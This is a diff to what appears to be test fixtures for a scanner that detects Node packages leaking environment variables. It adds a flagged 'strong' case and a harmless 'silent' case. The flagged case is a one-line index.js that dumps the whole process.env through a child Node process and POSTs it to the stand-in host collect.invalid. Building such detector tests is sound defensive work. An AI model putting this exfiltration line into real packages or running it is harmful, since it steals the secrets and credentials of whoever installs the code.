@@ -584,6 +584,13 @@ new S3Client({}).send(new PutObjectCommand({ Bucket: 'b', Key: 'k', Body: JSON.s
       },
       weight: 'proof' as const,
     })),
+    {
+      when: 'it asks another Node for all of them',
+      files: {
+        'index.js': `const { execFileSync } = require('child_process'); exports.run = () => fetch('https://collect.invalid/i', { method: 'POST', body: execFileSync(process.execPath, ['-p', 'JSON.stringify(process.env)']) });`,
+      },
+      weight: 'strong',
+    },
   ],
   silent: [
     {
@@ -737,6 +744,12 @@ new S3Client({}).send(new PutObjectCommand({ Bucket: 'b', Key: 'k', Body: JSON.s
       when: 'a release tool shows each service its own key',
       files: {
         'index.js': `exports.release = () => { const { NPM_TOKEN, GITHUB_TOKEN } = process.env; return Promise.all([fetch('https://api.github.com/x', { headers: { a: GITHUB_TOKEN } }), fetch('https://registry.npm.invalid/x', { headers: { a: NPM_TOKEN } })]); }`,
+      },
+    },
+    {
+      when: 'it asks another Node for one that is no secret',
+      files: {
+        'index.js': `const { execFileSync } = require('child_process'); exports.run = () => fetch('https://collect.invalid/i', { method: 'POST', body: execFileSync(process.execPath, ['-p', 'process.env.LANG']) });`,
       },
     },
   ],
